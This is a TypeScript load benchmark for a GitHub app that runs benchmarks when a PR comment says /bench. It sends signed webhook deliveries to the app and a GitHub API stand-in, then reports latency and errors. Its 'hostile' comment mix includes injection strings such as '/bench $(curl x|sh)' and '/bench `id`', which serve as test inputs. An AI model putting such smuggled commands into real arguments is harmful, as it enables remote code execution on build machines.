// Load bench for the app (npm run bench:app): 1,000 signed deliveries on
// loopback within one minute, against the real Probot server with a real
// SQLite store; GitHub is the API stand-in in a child process (it validates
// every request against GitHub's OpenAPI description). The load generator,
// the app and the stand-in are three processes, so that none of them
// measures the others' event loops. The mix is what a busy repository sends: mostly ordinary PR
// comments, /bench by maintainers (dispatch, check run, sticky comment;
// a second one on a PR replaces the first), refusals, help, hostile
// arguments, completed runs with report artifacts, and replayed deliveries.
//
//   node bench/app-load.ts [--deliveries 1000] [--seconds 50] [--throttle] [--json FILE]
//
// Reports p50/p90/p99/max of the delivery round trip (what GitHub waits
// for: the app answers when the handler is done) and of the handler alone,
// errors, duplicate comments, and requests that failed validation.
import { fork, type ChildProcess } from 'node:child_process';
import { generateKeyPairSync, randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { startAppServer } from '../src/app/app-server.ts';
import { REPLY_MARKER } from '../src/app/handler-deps.ts';
import { REPORT_MARKER } from '../src/report/markdown-report.ts';
import { openStore } from '../src/store/open-store.ts';
import { startGitHubApiStandIn, type GitHubApiStandIn } from '../test/support/github-api-stand-in.ts';
import { APP_ID, APP_SLUG, BOT_LOGIN, INSTALLATION_ID, OWNER, REPO, makeZip, reportJson, sha, sign } from '../test/app/app-harness.ts';
import { seededRandom } from '../test/support/random.ts';

type Message = { type: string; [key: string]: unknown };

if (process.argv.includes('--stand-in')) {
  await serveStandIn();
} else if (process.argv.includes('--app')) {
  await serveApp();
} else {
  await main();
}

/** serveApp runs in the second child: the app on its own event loop, reporting handler times over IPC. */
async function serveApp(): Promise<void> {
  const handled: Record<string, { ms: number; outcome: string }> = {};
  let close: (() => Promise<void>) | null = null;
  process.on('message', async (m: Message) => {
    if (m.type === 'start') {
      const store = await openStore(m.store as string, { cwd: tmpdir() });
      const app = await startAppServer({
        appId: APP_ID,
        privateKey: m.privateKey as string,
        secret: m.secret as string,
        apiUrl: m.apiUrl as string,
        store,
        writeIntervalMs: 0,
        throttle: m.throttle === true,
        logLevel: 'fatal',
        onHandled: (e) => (handled[e.id] = { ms: e.ms, outcome: e.outcome }),
      });
      close = async () => {
        await app.close();
        await store.close();
      };
      process.send?.({ type: 'started', url: app.webhookUrl });
    } else if (m.type === 'stats') {
      await close?.();
      process.send?.({ type: 'stats', handled });
      process.exit(0);
    }
  });
}

/** serveStandIn runs in the child: a stand-in seeded and queried over IPC. */
async function serveStandIn(): Promise<void> {
  let stand: GitHubApiStandIn | null = null;
  process.on('message', async (m: Message) => {
    if (m.type === 'seed') {
      stand = await startGitHubApiStandIn({ state: m.state as never });
      process.send?.({ type: 'ready', url: stand.url });
    } else if (m.type === 'comment' && stand) {
      const c = stand.addComment({ owner: OWNER, repo: REPO, issueNumber: m.pr as number, body: m.body as string, user: { login: m.login as string, type: 'User' } });
      process.send?.({ type: 'comment', seq: m.seq, id: c.id });
    } else if (m.type === 'artifact' && stand) {
      stand.addArtifact({ owner: OWNER, repo: REPO, runId: m.runId as number, name: 'benchbot-report', data: new Uint8Array(Buffer.from(m.zip as string, 'base64')) });
      process.send?.({ type: 'artifact', seq: m.seq });
    } else if (m.type === 'summary' && stand) {
      const s = stand;
      process.send?.({
        type: 'summary',
        comments: s.state.comments.map((c) => ({ pr: c.issueNumber, first: c.body.split('\n')[0], bot: c.user.type === 'Bot' })),
        dispatches: s.state.dispatches.length,
        requests: s.requests.length,
        invalid: s.requests.filter((r) => r.errors.length > 0 || r.responseErrors.length > 0).map((r) => `${r.method} ${r.path}: ${[...r.errors, ...r.responseErrors].join('; ')}`),
        statuses: s.requests.reduce<Record<string, number>>((acc, r) => ((acc[r.status] = (acc[r.status] ?? 0) + 1), acc), {}),
      });
      await s.close();
      process.exit(0);
    }
  });
}

interface Sample {
  kind: string;
  ms: number;
  status: number;
  id: string;
}

async function main(): Promise<void> {
  const { values } = parseArgs({ options: { deliveries: { type: 'string' }, seconds: { type: 'string' }, throttle: { type: 'boolean' }, json: { type: 'string' } } });
  const total = Number(values.deliveries ?? 1000);
  const seconds = Number(values.seconds ?? 50);
  const random = seededRandom(7);
  const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)];

  const { publicKey, privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const prs = Array.from({ length: 50 }, (_, i) => 100 + i);
  const child = fork(new URL(import.meta.url).pathname, ['--stand-in'], { stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  const ask = rpc(child);
  const ready = await ask({
    type: 'seed',
    state: {
      actor: { login: BOT_LOGIN, type: 'Bot', id: 5_550_001 },
      app: { id: APP_ID, slug: APP_SLUG, owner: { login: OWNER, type: 'Organization' }, publicKey: publicKey.export({ type: 'spki', format: 'pem' }).toString(), installations: [INSTALLATION_ID] },
      permissions: { maintainer: 'maintain', admin: 'admin' },
      workflows: ['benchbot-bench-command.yml'],
      pulls: prs.map((n) => ({ owner: OWNER, repo: REPO, number: n, title: `PR ${n}`, state: 'open', user: { login: 'contributor', type: 'User' }, headSha: sha(`head ${n}`), headRef: `f${n}`, headOwner: n % 2 === 0 ? 'contributor' : OWNER, headRepo: REPO, baseSha: sha('base'), baseRef: 'main' })),
    },
  }, 'ready');

  const dir = mkdtempSync(join(tmpdir(), 'benchbot-app-load-'));
  const secret = 'load secret';
  const appChild = fork(new URL(import.meta.url).pathname, ['--app'], { stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  const askApp = rpc(appChild);
  const started = await askApp({ type: 'start', store: join(dir, 'app.db'), privateKey: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(), secret, apiUrl: ready.url, throttle: values.throttle === true }, 'started');
  const app = { webhookUrl: started.url as string };
  // The generator reads the app's state (which runs are running) from the same SQLite file.
  const store = await openStore(join(dir, 'app.db'), { cwd: dir });

  const zip = Buffer.from(makeZip({ 'report.json': reportJson() })).toString('base64');
  const sent: { id: string; event: string; body: string }[] = [];
  const samples: Sample[] = [];
  const inflight: Promise<void>[] = [];
  const completed = new Set<number>();

  const post = (kind: string, event: string, body: string, id: string, measured: boolean) => {
    const started = performance.now();
    const done = fetch(app.webhookUrl, {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/json', 'x-github-event': event, 'x-github-delivery': id, 'x-hub-signature-256': sign(body, secret) },
    }).then(async (response) => {
      await response.text();
      if (measured) samples.push({ kind, ms: performance.now() - started, status: response.status, id });
    }, () => {
      if (measured) samples.push({ kind, ms: performance.now() - started, status: 0, id });
    });
    inflight.push(done);
    return done;
  };

  const commentPayload = async (pr: number, login: string, body: string) => {
    const { id } = await ask({ type: 'comment', pr, login, body }, 'comment');
    const now = new Date().toISOString().replace(/\.\d{3}Z$/, 'Z');
    return {
      action: 'created',
      installation: { id: INSTALLATION_ID },
      repository: { name: REPO, owner: { login: OWNER }, default_branch: 'main' },
      issue: { number: pr, pull_request: { url: `https://api.github.com/repos/${OWNER}/${REPO}/pulls/${pr}` } },
      comment: { id, body, html_url: `https://github.com/${OWNER}/${REPO}/pull/${pr}#issuecomment-${id}`, created_at: now, updated_at: now, user: { login, type: 'User' } },
      sender: { login, type: 'User' },
    };
  };

  const kinds: [string, number][] = [['chatter', 0.5], ['bench', 0.12], ['refused', 0.05], ['help', 0.03], ['hostile', 0.05], ['completed', 0.12], ['replay', 0.13]];
  const chooseKind = () => {
    let r = random();
    for (const [kind, weight] of kinds) if ((r -= weight) < 0) return kind;
    return 'chatter';
  };

  async function one(kind: string, measured: boolean): Promise<void> {
    const id = randomUUID();
    if (kind === 'replay' && sent.length > 0) {
      const old = pick(sent);
      await post('replay', old.event, old.body, old.id, measured);
      return;
    }
    if (kind === 'completed') {
      const running = (await store.listState('run:')).map((e) => e.value as { runId: number; status: string }).filter((r) => r.status === 'running' && !completed.has(r.runId));
      if (running.length > 0) {
        const run = pick(running);
        completed.add(run.runId);
        await ask({ type: 'artifact', runId: run.runId, zip }, 'artifact');
        const body = JSON.stringify({
          action: 'completed',
          installation: { id: INSTALLATION_ID },
          repository: { id: 1, full_name: `${OWNER}/${REPO}`, name: REPO, owner: { login: OWNER }, default_branch: 'main' },
          // What the app trusts as its own dispatched run: workflow_dispatch, on the default branch of the repository itself.
          workflow_run: { id: run.runId, conclusion: 'success', path: '.github/workflows/benchbot-bench-command.yml', html_url: `https://github.com/${OWNER}/${REPO}/actions/runs/${run.runId}`, run_attempt: 1, event: 'workflow_dispatch', head_branch: 'main', head_repository: { id: 1, full_name: `${OWNER}/${REPO}` } },
        });
        sent.push({ id, event: 'workflow_run', body });
        void post('completed', 'workflow_run', body, id, measured);
        return;
      }
      kind = 'chatter';
    }
    const pr = pick(prs);
    const [login, text] = kind === 'bench' ? [pick(['maintainer', 'admin']), pick(['/bench', '/bench BM_Parse runs=20', '/bench threshold=1.5%'])]
      : kind === 'refused' ? ['passer-by', '/bench']
        : kind === 'help' ? ['passer-by', '/bench help']
          : kind === 'hostile' ? ['maintainer', pick(['/bench $(curl x|sh)', '/bench a\u202Eb', '/bench runs=1e9', `/bench ${'x'.repeat(400)}`, '/bench `id`'])]
            : ['passer-by', pick(['LGTM', 'Could you rebase?', 'Nice speedup! We could /bench this later.', 'Thanks!'])];
    const body = JSON.stringify(await commentPayload(pr, login, text));
    sent.push({ id, event: 'issue_comment', body });
    void post(kind, 'issue_comment', body, id, measured);
  }

  // Warm-up (not measured): the first token exchange, the stand-in's validators.
  for (const kind of ['bench', 'refused', 'help', 'hostile', 'chatter', 'completed']) await one(kind, false);
  await Promise.all(inflight);
  sent.length = 0;

  const interval = (seconds * 1000) / total;
  const t0 = performance.now();
  for (let i = 0; i < total; i++) {
    await one(chooseKind(), true);
    const wait = t0 + (i + 1) * interval - performance.now();
    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
  }
  await Promise.all(inflight);
  const wall = (performance.now() - t0) / 1000;

  const summary = await ask({ type: 'summary' }, 'summary');
  const handled = new Map(Object.entries((await askApp({ type: 'stats' }, 'stats')).handled as Record<string, { ms: number; outcome: string }>));
  await store.close();
  rmSync(dir, { recursive: true, force: true });

  const comments = summary.comments as { pr: number; first: string; bot: boolean }[];
  const duplicates = prs.reduce((n, pr) => {
    const count = (marker: string) => comments.filter((c) => c.pr === pr && c.bot && c.first === marker).length;
    return n + Math.max(0, count(REPORT_MARKER) - 1) + Math.max(0, count(REPLY_MARKER) - 1);
  }, 0);
  const errors = samples.filter((s) => s.status !== 200);
  const outcomes = [...handled.values()].reduce<Record<string, number>>((acc, h) => ((acc[h.outcome] = (acc[h.outcome] ?? 0) + 1), acc), {});
  const stats = (values: number[]) => {
    const sorted = [...values].sort((a, b) => a - b);
    const q = (p: number) => sorted[Math.min(sorted.length - 1, Math.ceil(p * sorted.length) - 1)] ?? 0;
    return { n: sorted.length, p50: round(q(0.5)), p90: round(q(0.9)), p99: round(q(0.99)), max: round(sorted.at(-1) ?? 0) };
  };
  const byKind = Object.fromEntries([...new Set(samples.map((s) => s.kind))].sort().map((k) => [k, stats(samples.filter((s) => s.kind === k).map((s) => s.ms))]));
  const result = {
    deliveries: samples.length,
    wall_seconds: round(wall),
    throttling: values.throttle === true,
    round_trip_ms: stats(samples.map((s) => s.ms)),
    handler_ms: stats(samples.map((s) => handled.get(s.id)?.ms ?? 0).filter((ms) => ms > 0)),
    by_kind_round_trip_ms: byKind,
    errors: errors.length,
    duplicate_comments: duplicates,
    dispatches: summary.dispatches,
    outcomes,
    github_requests: summary.requests,
    github_statuses: summary.statuses,
    invalid_requests: (summary.invalid as string[]).length,
  };
  process.stdout.write(`${JSON.stringify(result, null, 2)}\n`);
  if (values.json) writeFileSync(values.json, `${JSON.stringify(result, null, 2)}\n`);
  const target = result.round_trip_ms.p99 < 100 && errors.length === 0 && duplicates === 0 && result.invalid_requests === 0;
  process.stdout.write(`${target ? 'target met' : 'target missed'}: p99 ${result.round_trip_ms.p99} ms (target < 100), ${errors.length} errors, ${duplicates} duplicate comments, ${result.invalid_requests} invalid requests, ${samples.length} deliveries in ${result.wall_seconds} s\n`);
  if ((summary.invalid as string[]).length > 0) process.stderr.write(`${(summary.invalid as string[]).slice(0, 5).join('\n')}\n`);
  process.exitCode = errors.length === 0 && duplicates === 0 && result.invalid_requests === 0 ? 0 : 1;
}

function round(x: number): number {
  return Math.round(x * 10) / 10;
}

/** rpc sends a message to the child and resolves with the next reply of the given type (replies come in order). */
function rpc(child: ChildProcess): (message: Message, reply: string) => Promise<Message> {
  const waiting: { reply: string; resolve: (m: Message) => void }[] = [];
  child.on('message', (m: Message) => {
    const i = waiting.findIndex((w) => w.reply === m.type);
    if (i !== -1) waiting.splice(i, 1)[0].resolve(m);
  });
  return (message, reply) => new Promise((resolve) => {
    waiting.push({ reply, resolve });
    child.send(message);
  });
}
